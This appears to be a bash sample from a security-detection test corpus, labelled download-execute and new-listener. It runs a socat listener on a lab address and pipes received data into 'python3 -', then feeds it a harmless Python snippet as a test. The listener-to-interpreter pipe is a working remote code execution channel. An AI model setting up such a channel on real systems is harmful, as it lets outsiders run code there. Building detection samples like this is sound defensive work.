#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute,new-listener half=report tool=socat,python3 far=out seconds=20 parts=dns
# socat waits on a port, somebody outside comes and gives it a program, and Python runs that as it comes over the pipe.
if [ "$1" = out ]; then sleep 6; printf '%s\n' 'import os, time' 'open(os.environ["LAB"] + "/ran", "w").write(str(os.getuid())); time.sleep(4)' | timeout 8 socat -t 1 -u - TCP:10.30.0.2:7601; exit 0; fi
timeout 16 socat -u TCP-LISTEN:7601,bind=10.30.0.2,reuseaddr - | timeout 18 python3 -; sleep 1; [ -s "$LAB/ran" ]
